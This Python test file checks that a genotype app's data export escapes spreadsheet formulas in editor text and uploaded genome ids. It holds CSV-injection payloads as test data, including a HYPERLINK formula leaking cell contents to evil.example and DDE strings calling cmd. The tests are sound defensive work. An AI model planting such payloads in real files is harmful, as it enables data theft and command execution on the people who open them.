"""The "my data" export cannot carry a spreadsheet formula, whoever wrote the text in it.

The results CSV mixes the member's genotypes with text editors wrote (gene, interpretation);
the genome TSV holds the ids from the member's own uploaded file, which a third party may
have crafted. A cell that starts with =, +, -, @, a tab or a carriage return is a formula
(or can become one) to Excel, LibreOffice and Google Sheets, so each such cell is prefixed
with an apostrophe.
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from genotypes.models import GenomeUpload, Snp, SnpInterpretation
from genotypes.samples import generate_genome
from genotypes.services import export, parsing, uploads
from tests.factories import TEST_PASSWORD, MemberFactory
from tests.genotypes.factories import SnpFactory, SnpInterpretationFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, member) -> zipfile.ZipFile:
    client.force_login(member)
    assert (
        client.post(reverse("account_reauthenticate"), {"password": TEST_PASSWORD}).status_code
        == 302
    )
    response = client.post(reverse("genotypes:export"))
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _cells(text: str, delimiter: str) -> list[str]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
    return [
        cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row
    ]


@pytest.mark.parametrize("prefix", FORMULA_STARTS, ids=repr)
def test_csv_safe_neutralises_each_formula_start(prefix):
    assert export.csv_safe(f"{prefix}1+1") == f"'{prefix}1+1"
    assert export.csv_safe(f"a{prefix}1") == f"a{prefix}1"


def test_results_csv_neutralises_formulas_in_editor_written_text(client):
    member = MemberFactory()
    for index, payload in enumerate(PAYLOADS):
        snp = SnpFactory(rsid=f"rs{7100 + index}", gene=payload[:40], ref="A", alt="G")
        SnpInterpretationFactory(snp=snp, genotype="AG", text=payload)
    include = {snp.rsid: "AG" for snp in Snp.objects.all()}
    upload = uploads.genome_upload_create(
        user=member,
        consent=True,
        file=SimpleUploadedFile(
            "genome.txt", generate_genome("23andme", n_snps=500, seed=3, include=include)
        ),
    )
    parsing.genome_upload_process(upload_id=upload.pk, task_id="t")
    assert GenomeUpload.objects.get(pk=upload.pk).status == "done"
    assert SnpInterpretation.objects.count() == len(PAYLOADS)

    results = _export(client, member).read("genlife-results.csv").decode()
    cells = _cells(results, ",")
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for payload in PAYLOADS:
        assert f"'{payload}" in cells
    assert "rs7100" in cells and "AG" in cells


def test_genome_tsv_neutralises_formulas_in_ids_from_the_uploaded_file(client):
    member = MemberFactory()
    genome = generate_genome("23andme", n_snps=500, seed=4).decode().rstrip("\n").split("\n")
    crafted = ['=HYPERLINK("http://evil.example","x")', "+cmd", "-2+3", "@SUM(1+1)"]
    genome += [f"{name}\t1\t{1000 + index}\tAG" for index, name in enumerate(crafted)]
    upload = uploads.genome_upload_create(
        user=member,
        consent=True,
        file=SimpleUploadedFile("genome.txt", ("\n".join(genome) + "\n").encode()),
    )
    parsing.genome_upload_process(upload_id=upload.pk, task_id="t")
    assert GenomeUpload.objects.get(pk=upload.pk).status == "done"

    tsv = _export(client, member).read("genlife-genome-23andme.txt").decode()
    rows = list(
        csv.reader(
            io.StringIO(
                "".join(line for line in tsv.splitlines(keepends=True) if not line.startswith("#"))
            ),
            delimiter="\t",
        )
    )
    ids = [row[0] for row in rows]
    for name in crafted:
        assert f"'{name}" in ids
    assert not [row[0] for row in rows if row[0].startswith(FORMULA_STARTS)]
    assert sum(cell.startswith("rs") for cell in ids) >= 400  # ordinary ids are untouched
    no_calls = [row for row in rows if row[3] == "--"]
    assert no_calls, "a no-call stays '--', a genotype code, not a formula"
